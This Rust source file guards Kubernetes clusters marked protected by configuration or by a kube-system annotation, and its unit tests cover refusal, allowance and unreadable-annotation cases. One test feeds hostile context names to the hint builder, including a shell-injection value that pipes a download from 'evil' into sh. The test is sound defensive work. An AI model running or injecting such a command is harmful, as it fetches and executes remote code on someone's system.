//! Guards protected clusters: a run creates nothing on a cluster that its owner or the user's configuration
//! protects, unless the user allows that cluster by name.

use winconform_core::method::ApiRequest;
use winconform_core::text::{SHOWN, is_hostile, printable};

use crate::cluster::connection::connect::Cluster;
use crate::cluster::objects::labels::PROTECTED;

/// The namespace with the annotation: every cluster has it, and only the cluster's operators may change it.
const NAMESPACE: &str = "/api/v1/namespaces/kube-system";

/// Why a run may create nothing on a cluster.
#[derive(Clone, Debug, Eq, PartialEq, thiserror::Error)]
pub enum Guarded {
    /// The configuration names the context or the cluster.
    #[error(
        "the cluster of context `{}` is protected: the configuration names `{}` under `protected`\n{}",
        printable(context),
        printable(named),
        hint(context)
    )]
    ByName {
        context: String,
        /// The context or the cluster, as the configuration names it.
        named: String,
    },
    /// An annotation in the cluster protects it.
    #[error(
        "the cluster of context `{}` is protected: its namespace kube-system has the annotation \
         `{PROTECTED}`, which says `{}`\n{}",
        printable(context),
        printable(says),
        hint(context)
    )]
    ByAnnotation {
        context: String,
        /// The annotation's value.
        says: String,
    },
    /// Whether the cluster is protected is unknown.
    #[error(
        "whether the cluster of context `{}` is protected cannot be told: the annotation \
         `{PROTECTED}` of its namespace kube-system was not read: {}\n{}",
        printable(context),
        printable(why),
        hint(context)
    )]
    Unread { context: String, why: String },
}

/// How to go on: as an option to copy only if a shell reads the name as it is shown.
fn hint(context: &str) -> String {
    let option = match context.contains('\'')
        || context.contains(is_hostile)
        || context.chars().count() > SHOWN
    {
        true => "--allow-protected with the name of the context".to_owned(),
        false => format!("--allow-protected '{context}'"),
    };
    format!("(to go on nevertheless, on this one alone: {option})")
}

/// The warning that the annotation could not be read, for a user whose run goes on nevertheless.
fn unread(context: &str, reason: &str) -> String {
    format!(
        "whether the cluster of context `{}` is protected by the annotation `{PROTECTED}` of its \
         namespace kube-system could not be read, and so it protects nothing: {}",
        printable(context),
        printable(reason)
    )
}

/// Refuses a protected cluster, unless its context is `allowed`, and a cluster whose annotation cannot be
/// read. If the account may not read it (403), the cluster is not protected and the caller shows the returned
/// warning; without the namespace it is not protected either.
pub async fn guard(
    cluster: &Cluster,
    protected: &[String],
    allowed: Option<&str>,
) -> Result<Option<String>, Guarded> {
    let context = &cluster.context;
    if allowed == Some(context) {
        return Ok(None);
    }
    let is_it = |named: &&String| *named == context || Some(*named) == cluster.name.as_ref();
    if let Some(named) = protected.iter().find(is_it) {
        return Err(Guarded::ByName {
            context: context.clone(),
            named: named.clone(),
        });
    }
    let untold = |why: String| {
        let context = context.clone();
        Err(Guarded::Unread { context, why })
    };
    let reply = match cluster.api.send(&ApiRequest::get(NAMESPACE)).await {
        Ok(reply) => reply,
        Err(error) => return untold(error.to_string()),
    };
    let said = || format!("status {}: {}", reply.status, reply.message());
    match reply.status {
        200 => {}
        403 => return Ok(Some(unread(context, &said()))),
        404 => return Ok(None),
        _ => return untold(said()),
    }
    let annotation = &reply.body["metadata"]["annotations"][PROTECTED];
    match annotation.as_str() {
        Some(says) if says != "false" => Err(Guarded::ByAnnotation {
            context: context.clone(),
            says: says.to_owned(),
        }),
        Some(_) | None => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use super::super::fake::Fake;
    use super::*;
    use serde_json::{Value as Json, json};

    fn cluster(fake: &Fake) -> Cluster {
        Cluster {
            api: fake.api(),
            context: "prod-admin".to_owned(),
            name: Some("prod".to_owned()),
            unverified: false,
        }
    }

    fn annotated(value: &Json) -> Fake {
        let fake = Fake::default();
        let metadata = json!({"name": "kube-system", "annotations": {PROTECTED: value}});
        let namespace = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": metadata});
        fake.put(NAMESPACE, namespace);
        fake
    }

    #[tokio::test(start_paused = true)]
    async fn a_cluster_that_is_named_is_refused_whichever_way() {
        let fake = annotated(&Json::Null);
        for named in ["prod-admin", "prod"] {
            let list = ["other".to_owned(), named.to_owned()];
            let refused = guard(&cluster(&fake), &list, None).await;
            let said = refused.expect_err("it is protected").to_string();
            let expected = format!(
                "the cluster of context `prod-admin` is protected: the configuration names \
                 `{named}` under `protected`\n(to go on nevertheless, on this one alone: \
                 --allow-protected 'prod-admin')"
            );
            assert_eq!(said, expected);
        }
        assert!(fake.log().is_empty());
        let list = ["prod-".to_owned(), "production".to_owned()];
        assert_eq!(guard(&cluster(&fake), &list, None).await, Ok(None));
    }

    #[tokio::test(start_paused = true)]
    async fn a_cluster_that_says_so_is_refused() {
        for (value, protects) in [
            (json!("payroll: ask ops@example.com"), true),
            (json!("true"), true),
            (json!(""), true),
            (json!("false"), false),
            (Json::Null, false),
        ] {
            let refused = guard(&cluster(&annotated(&value)), &[], None).await;
            let says = value.as_str().unwrap_or_default().to_owned();
            let context = "prod-admin".to_owned();
            let expected = match protects {
                true => Err(Guarded::ByAnnotation { context, says }),
                false => Ok(None),
            };
            assert_eq!(refused, expected, "{value}");
        }
    }

    #[tokio::test(start_paused = true)]
    async fn only_this_context_is_allowed_by_its_name() {
        let cluster = cluster(&annotated(&json!("payroll")));
        let list = ["prod".to_owned()];
        assert_eq!(guard(&cluster, &list, Some("prod-admin")).await, Ok(None));
        for other in ["prod", "staging", ""] {
            let guarded = guard(&cluster, &list, Some(other)).await;
            assert!(guarded.is_err(), "{other}");
        }
    }

    #[tokio::test(start_paused = true)]
    async fn what_may_not_be_read_protects_nothing_and_is_told() {
        let fake = Fake::default();
        // An annotation in an error's body protects nothing either
        let body =
            json!({"message": "no\u{1b}[31m", "metadata": {"annotations": {PROTECTED: "x"}}});
        fake.script(&format!("GET {NAMESPACE} "), 403, body.clone());
        let told = guard(&cluster(&fake), &[], None).await;
        let told = told.expect("it protects nothing");
        let line = "whether the cluster of context `prod-admin` is protected by the annotation \
                    `winconform/protected` of its namespace kube-system could not be read, and so it \
                    protects nothing: status 403: no\\u{1b}[31m";
        assert_eq!(told.as_deref(), Some(line));
        let allowed = guard(&cluster(&fake), &[], Some("prod-admin")).await;
        assert_eq!(allowed, Ok(None));
        // A missing namespace protects nothing
        fake.script(&format!("GET {NAMESPACE} "), 404, body);
        assert_eq!(guard(&cluster(&fake), &[], None).await, Ok(None));
    }

    #[tokio::test(start_paused = true)]
    async fn nothing_is_made_where_it_cannot_be_told() {
        // Errors of the API, and an unexpected status
        for status in [500, 503, 429, 401, 418, 201] {
            let fake = Fake::default();
            let body = json!({"kind": "Status", "message": "etcdserver: no leader"});
            fake.script(&format!("GET {NAMESPACE} "), status, body);
            let cluster = cluster(&fake);
            let refused = guard(&cluster, &[], None).await;
            let said = refused.expect_err("nobody knows").to_string();
            for part in [
                "whether the cluster of context `prod-admin` is protected cannot be told",
                "etcdserver: no leader",
                "--allow-protected 'prod-admin'",
            ] {
                assert!(said.contains(part), "{status}: {said}");
            }
            assert_eq!(guard(&cluster, &[], Some("prod-admin")).await, Ok(None));
        }
    }

    #[test]
    fn a_command_is_offered_only_where_a_shell_takes_it_as_it_is_shown() {
        let plain = "kind prod; $(x) `y`";
        assert!(hint(plain).contains(&format!("--allow-protected '{plain}'")));
        let long = "x".repeat(SHOWN + 1);
        for odd in ["a'; curl evil | sh; '", "a\u{202e}b", "a\nb", "a\rb", &long] {
            let said = hint(odd);
            assert!(said.contains("--allow-protected with"), "{said}");
            assert!(!said.contains(odd) && !said.contains('\''), "{said}");
        }
    }
}
